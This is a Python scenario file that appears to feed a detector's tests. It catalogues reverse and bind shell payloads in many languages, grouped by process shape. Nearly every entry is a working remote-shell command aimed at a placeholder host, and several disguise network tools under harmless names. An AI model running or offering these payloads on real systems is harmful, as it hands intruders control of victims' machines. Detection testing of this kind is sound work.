# SPDX-License-Identifier: Apache-2.0
"""Shapes A to E, and bind shells: what a payload list has.

A: one process connects and becomes the shell. B: it connects, and a descendant is the shell. C: the
shell is there first, and its parent connects and relays. D: shell and network tool are siblings in
a pipeline. E: a loop that connects and runs each command in a child."""

from scenarios import AT_A_TERMINAL, Attack

PROGRAM = {"shell": False}

PYTHON_PTY = """\
import os, pty, socket
s = socket.create_connection(("@H6@", @P@))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/bash")
"""
PYTHON_RELAY = """\
import socket, subprocess, threading
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                     stderr=subprocess.STDOUT, bufsize=0)
s = socket.create_connection(("@H@", @P@))
def up():
    while True:
        b = p.stdout.read(4096)
        if not b:
            break
        s.sendall(b)
threading.Thread(target=up).start()
for line in s.makefile("rb"):
    p.stdin.write(line)
"""
PYTHON_BIND6 = """\
import os, socket
l = socket.create_server(("@V6@", @P@), family=socket.AF_INET6)
c, a = l.accept()
if os.fork() == 0:
    for fd in (0, 1, 2):
        os.dup2(c.fileno(), fd)
    os.execv("/bin/dash", ["dash"])
os.wait()
"""
PYTHON_UDP_LOOP = """\
import os, socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect(("@H@", @P@))
s.send(b"up")
while True:
    c = s.recv(4096).decode()
    if c.startswith("exit"):
        break
    s.send(os.popen(c).read().encode())
"""
PERL_OPEN2 = """\
use IPC::Open2; use IO::Socket::INET;
my $p = open2(my $o, my $i, '/bin/sh');
my $s = IO::Socket::INET->new('@H@:@P@') or die;
if (!fork) { while (sysread $o, my $b, 4096) { syswrite $s, $b } exit }
while (sysread $s, my $b, 4096) { syswrite $i, $b }
"""
TCL_LOOP = """\
set s [socket @H@ @P@]
fconfigure $s -buffering line
while {[gets $s c] >= 0 && $c ne "exit"} { catch {exec sh -c $c} r; puts $s $r }
"""
RUBY_LOOP = """\
require 'socket'
s = TCPSocket.new('@H@', @P@)
while c = s.gets do break if c =~ /^exit/; s.print(`#{c}`) end
"""
LUA_LOOP = """\
local s = require('socket').connect('@H@', @P@)
while true do
  local c = s:receive()
  if not c or c == 'exit' then break end
  local p = io.popen(c); s:send(p:read('*a')); p:close()
end
"""
PERL_LOOP = """\
use IO::Socket::INET;
my $s = IO::Socket::INET->new('@H@:@P@');
while (<$s>) { last if /^exit/; print $s `$_` }
"""

ATTACKS = [
    # ---- A: connect, then the same process is the shell
    Attack("bash_tcp_ssh", "A", "shell", "ssh", "tcp", "bash -i >& /dev/tcp/@H@/@P@ 0>&1",
           live=True),
    Attack("bash_tcp_nested_web", "A", "shell", "web", "tcp",
           "bash -c 'bash -i >& /dev/tcp/@H@/@P@ 0>&1'"),
    Attack("bash_tcp6_cron", "A", "shell", "cron", "tcp6",
           "bash -c 'exec 7<>/dev/tcp/@H6@/@P@; exec bash <&7 >&7 2>&7'", live=True),
    Attack("bash_copied_web", "A", "shell", "web", "tcp",
           "cp /bin/bash @D@/kw; @D@/kw -c '@D@/kw -i >& /dev/tcp/@H@/@P@ 0>&1'", live=True),
    Attack("bash_function_ssh", "A", "shell", "ssh", "tcp",
           "f() { exec 9<>/dev/tcp/@H@/$1; while :; do sh <&9 >&9 2>&9; break; done; }; f @P@"),
    Attack("zsh_ztcp_cron", "A", "shell", "cron", "tcp",
           "zsh -c 'zmodload zsh/net/tcp; ztcp @H@ @P@; exec zsh <&$REPLY >&$REPLY 2>&$REPLY'",
           needs=("zsh",), live=True),
    Attack("nc_traditional_e_web", "A", "netcat", "web", "tcp",
           "nc.traditional -e /bin/bash @H@ @P@", needs=("nc.traditional",), live=True),
    Attack("nc_renamed_cron", "A", "netcat", "cron", "tcp",
           "@D@/dbus-helper @H@ @P@ -e /bin/sh", needs=("nc.traditional",),
           files={"dbus-helper": "copy:/bin/nc.traditional"}, live=True),
    Attack("busybox_nc_ssh", "A", "netcat", "ssh", "tcp",
           "busybox nc @H@ @P@ -e sh", needs=("busybox",), live=True),
    Attack("busybox_copied_service", "A", "netcat", "service", "tcp",
           "@D@/nc @H@ @P@ -e @D@/ash", needs=("busybox",),
           files={"nc": "copy:/bin/busybox", "ash": "copy:/bin/busybox"}),
    Attack("perl_exec_ssh", "A", "perl", "ssh", "tcp",
           "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(@P@,"
           "inet_aton(\"@H@\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");open(STDERR,\">&S\");"
           "exec(\"/bin/sh -i\")'", live=True),
    Attack("python_exec_file_web", "A", "python", "web", "tcp",
           "python3 @D@/app.py", needs=("python3",),
           files={"app.py": "import os, socket\ns = socket.create_connection(('@H@', @P@))\n"
                            "for fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\n"
                            "os.execl('/bin/bash', 'bash')\n"}),
    Attack("ruby_exec_cron", "A", "ruby", "cron", "tcp",
           "ruby -rsocket -e 'c=TCPSocket.new(\"@H@\",@P@);"
           "exec \"/bin/sh\",:in=>c,:out=>c,:err=>c'",
           needs=("ruby",)),
    Attack("go_exec_service", "A", "binary", "service", "tcp", "@D@/agent @H@:@P@ exec",
           needs=("remote",), files={"agent": "copy:@C@/remote"}),
    Attack("c_exec_service", "A", "binary", "service", "tcp", "@D@/d @H@ @P@ a",
           needs=("implant",), files={"d": "copy:@C@/implant"}, live=True),
    Attack("c_memfd_web", "A", "binary", "web", "tcp", "@D@/l @H@ @P@ d", needs=("implant",),
           files={"l": "copy:@C@/implant"}, live=True),
    Attack("c_32_bit_cron", "A", "binary", "cron", "tcp", "@D@/e @H@ @P@", needs=("client32",),
           files={"e": "copy:@C@/client32"}, live=True),
    Attack("c_32_bit_ssh", "A", "binary", "ssh", "tcp", "cd @D@; ./e @H@ @P@",
           needs=("client32",), files={"e": "copy:@C@/client32"}),
    Attack("socat_nofork_ssh", "A", "socat", "ssh", "tcp",
           "socat TCP:@H@:@P@ EXEC:/bin/sh,nofork", needs=("socat",)),
    Attack("bash_udp_web", "A", "shell", "web", "udp",
           "bash -c 'exec 5<>/dev/udp/@H@/@P@; echo up >&5; sh <&5 >&5 2>&5'", live=True),
    # ---- B: connect, then a descendant is the shell
    Attack("python_subprocess_ssh", "B", "python", "ssh", "tcp",
           "python3 -c 'import socket,subprocess;s=socket.create_connection((\"@H@\",@P@));"
           "subprocess.call([\"sh\"],stdin=s,stdout=s,stderr=s)'", needs=("python3",), live=True),
    Attack("python_pty6_web", "B", "python", "web", "tcp6", "python3 @D@/index.py",
           needs=("python3",), files={"index.py": PYTHON_PTY}, live=True),
    Attack("php_fsockopen_web", "B", "php", "web", "tcp",
           "php -r '$s=fsockopen(\"@H@\",@P@);$p=proc_open(\"sh\",[$s,$s,$s],$x);proc_close($p);'",
           needs=("php",), live=True),
    Attack("ncat_exec6_ssh", "B", "netcat", "ssh", "tcp6", "ncat -6 @H6@ @P@ -e /bin/bash",
           needs=("ncat",), live=True),
    Attack("ncat_udp_cron", "B", "netcat", "cron", "udp",
           "echo | ncat -u @H@ @P@ -c 'echo up; exec sh'", needs=("ncat",)),
    Attack("nc_traditional_c_ssh", "B", "netcat", "ssh", "tcp",
           "nc.traditional @H@ @P@ -c 'exec sh'",
           needs=("nc.traditional",)),
    Attack("socat_pty_web", "B", "socat", "web", "tcp",
           "socat TCP:@H@:@P@ EXEC:'bash -li',pty,stderr,setsid,sigint,sane", needs=("socat",),
           live=True),
    Attack("socat6_copied_cron", "B", "socat", "cron", "tcp6",
           "@D@/logrotated TCP6:[@H6@]:@P@ SYSTEM:sh", needs=("socat",),
           files={"logrotated": "copy:/usr/bin/socat"}),
    Attack("socat_udp_ssh", "B", "socat", "ssh", "udp",
           "socat UDP:@H@:@P@ SYSTEM:'echo up; exec sh'", needs=("socat",), live=True),
    Attack("go_shell_cron", "B", "binary", "cron", "tcp", "@D@/g @H@:@P@ shell",
           needs=("remote",), files={"g": "copy:@C@/remote"}, live=True),
    Attack("c_child_ssh", "B", "binary", "ssh", "tcp", "@D@/x @H@ @P@ b", needs=("implant",),
           files={"x": "copy:@C@/implant"}),
    Attack("java_shell_ssh", "B", "java", "ssh", "tcp", "java -cp @C@ Remote @H@ @P@ shell",
           needs=("java", "Remote.class"), live=True),
    Attack("node_spawn_service", "B", "node", "service", "tcp", "node @D@/server.js",
           needs=("node",), files={"server.js":
               "const s = require('net').connect(@P@, '@H@', () => {\n"
               "  const p = require('child_process').spawn('/bin/sh', []);\n"
               "  s.pipe(p.stdin); p.stdout.pipe(s); p.stderr.pipe(s);\n"
               "  p.on('exit', () => process.exit());\n});\n"}),
    Attack("ruby_spawn_web", "B", "ruby", "web", "tcp",
           "ruby -rsocket -e 's=TCPSocket.new(\"@H@\",@P@);system(\"/bin/sh\",[:in,:out,:err]=>s)'",
           needs=("ruby",)),
    Attack("perl_fork_cron", "B", "perl", "cron", "tcp",
           "perl -MIO::Socket -e '$s=IO::Socket::INET->new(\"@H@:@P@\");exit if fork;"
           "open STDIN,\"<&\",$s;open STDOUT,\">&\",$s;system \"/bin/sh\"'"),
    # ---- C: the shell first
    Attack("socat_exec_first_cron", "C", "socat", "cron", "tcp",
           "socat EXEC:'bash -i',pty,stderr,setsid TCP:@H@:@P@", needs=("socat",), live=True),
    Attack("python_relay_ssh", "C", "python", "ssh", "tcp", "python3 @D@/w.py",
           needs=("python3",), files={"w.py": PYTHON_RELAY}, live=True),
    Attack("perl_open2_web", "C", "perl", "web", "tcp", "perl @D@/status.cgi",
           files={"status.cgi": PERL_OPEN2}, live=True),
    Attack("c_relay_cron", "C", "binary", "cron", "tcp", "@D@/r @H@ @P@ c 1",
           needs=("implant",), files={"r": "copy:@C@/implant"}),
    # ---- D: siblings
    Attack("nc_fifo_web", "D", "netcat", "web", "tcp",
           "mkfifo @D@/f; cat @D@/f | sh -i 2>&1 | nc.openbsd @H@ @P@ >@D@/f",
           needs=("nc.openbsd",), live=True),
    Attack("nc_fifo_shell_first_cron", "D", "netcat", "cron", "tcp",
           "mkfifo @D@/f; sh <@D@/f 2>&1 | nc.traditional @H@ @P@ >@D@/f",
           needs=("nc.traditional",)),
    Attack("nc_background_ssh", "D", "netcat", "ssh", "tcp",
           "mkfifo @D@/i @D@/o; exec 8<>@D@/i 9<>@D@/o; nc.openbsd @H@ @P@ <&9 >&8 &\n"
           "bash <&8 >&9 2>&1",
           needs=("nc.openbsd",)),
    Attack("curl_telnet_cron", "D", "curl", "cron", "tcp",
           # curl looks for the operator's words only between two reads of its own input.
           "mkfifo @D@/f; (sh <@D@/f 2>&1 & while sleep 0.1; do echo; done) | "
           "curl -sN telnet://@H@:@P@ >@D@/f", needs=("curl",),
           live=True),
    Attack("telnet_two_ssh", "D", "telnet", "ssh", "two",
           "busybox telnet @H@ @P@ | busybox ash | busybox telnet @H@ @Q@", needs=("busybox",)),
    Attack("nc_two_web", "D", "netcat", "web", "two",
           "nc.openbsd @H@ @P@ | bash 2>&1 | nc.openbsd @H@ @Q@", needs=("nc.openbsd",), live=True),
    Attack("bash_coproc_ssh", "D", "shell", "ssh", "tcp",
           "coproc N { nc.openbsd @H@ @P@; }; sh <&${N[0]} >&${N[1]} 2>&1", needs=("nc.openbsd",)),
    Attack("socat_pipe_cron", "D", "socat", "cron", "tcp",
           "mkfifo @D@/p; socat - TCP:@H@:@P@ <@D@/p | sh >@D@/p 2>&1", needs=("socat",)),
    Attack("zsh_copied_fifo_web", "D", "netcat", "web", "tcp",
           "mkfifo @D@/f; @D@/cron-helper <@D@/f 2>&1 | nc.openbsd @H@ @P@ >@D@/f",
           needs=("zsh", "nc.openbsd"), files={"cron-helper": "copy:/usr/bin/zsh"}),
    # ---- E: a command loop
    Attack("gawk_loop_ssh", "E", "awk", "ssh", "tcp",
           "gawk 'BEGIN{s=\"/inet/tcp/0/@H@/@P@\";while((s|&getline c)>0){if(c==\"exit\")break;"
           "while((c|&getline l)>0)print l|&s;close(c)}}'", needs=("gawk",), live=True),
    Attack("gawk_loop_udp_cron", "E", "awk", "cron", "udp",
           "gawk 'BEGIN{s=\"/inet/udp/0/@H@/@P@\";print \"up\"|&s;while((s|&getline c)>0)"
           "{if(c==\"exit\")break;while((c|&getline l)>0)print l|&s;close(c)}}'", needs=("gawk",)),
    Attack("bash_loop_cron", "E", "shell", "cron", "tcp",
           "bash -c 'exec 4<>/dev/tcp/@H@/@P@; while read -r c <&4; do [ \"$c\" = exit ] && break; "
           "eval \"$c\" >&4 2>&1; done'", live=True),
    Attack("tcl_loop_ssh", "E", "tcl", "ssh", "tcp", "tclsh @D@/t", needs=("tclsh",),
           files={"t": TCL_LOOP},
           unseen=AT_A_TERMINAL),
    Attack("ruby_loop_web", "E", "ruby", "web", "tcp", "ruby @D@/worker.rb", needs=("ruby",),
           files={"worker.rb": RUBY_LOOP}, live=True),
    Attack("lua_loop_cron", "E", "lua", "cron", "tcp", "lua5.4 @D@/m.lua", needs=("lua5.4",),
           files={"m.lua": LUA_LOOP}),
    Attack("perl_loop_file_ssh", "E", "perl", "ssh", "tcp", "perl @D@/u.pl",
           files={"u.pl": PERL_LOOP}),
    Attack("python_loop_udp_web", "E", "python", "web", "udp", "python3 @D@/q.py",
           needs=("python3",), files={"q.py": PYTHON_UDP_LOOP}),
    Attack("c_loop_cron", "E", "binary", "cron", "tcp", "@D@/s @H@ @P@ e", needs=("implant",),
           files={"s": "copy:@C@/implant"}, live=True),
    # ---- bind shells
    Attack("bind_nc_traditional_ssh", "A", "bind", "ssh", "bind",
           "nc.traditional -l -p @P@ -e /bin/sh", needs=("nc.traditional",), live=True),
    Attack("bind_busybox_cron", "B", "bind", "cron", "bind", "busybox nc -l -p @P@ -e sh",
           needs=("busybox",), live=True),
    Attack("bind_ncat6_web", "B", "bind", "web", "bind6", "ncat -6 -l @P@ -c 'exec bash'",
           needs=("ncat",), live=True),
    Attack("bind_socat_udp_cron", "B", "bind", "cron", "udp_bind",
           "socat UDP-LISTEN:@P@ EXEC:sh", needs=("socat",)),
    Attack("bind_socat_fork_service", "B", "bind", "service", "bind",
           "socat TCP-LISTEN:@P@,reuseaddr,fork EXEC:bash,pty,stderr,setsid", needs=("socat",)),
    Attack("bind_python6_cron", "B", "bind", "cron", "bind6", "python3 @D@/b.py",
           needs=("python3",), files={"b.py": PYTHON_BIND6}, live=True),
    Attack("bind_perl_web", "A", "bind", "web", "bind",
           "perl -MIO::Socket::INET -e '$l=IO::Socket::INET->new(LocalPort=>@P@,Listen=>1,"
           "ReuseAddr=>1);$c=$l->accept;open STDIN,\"<&\",$c;open STDOUT,\">&\",$c;"
           "open STDERR,\">&\",$c;exec \"/bin/sh\"'"),
    Attack("bind_nc_fifo_ssh", "D", "bind", "ssh", "bind",
           "mkfifo @D@/f; sh <@D@/f 2>&1 | nc.openbsd -l -p @P@ >@D@/f", needs=("nc.openbsd",)),
    Attack("bind_ruby_ssh", "B", "bind", "ssh", "bind",
           "ruby -rsocket -e 's=TCPServer.new(@P@).accept;system(\"sh\",[:in,:out,:err]=>s)'",
           needs=("ruby",)),
]
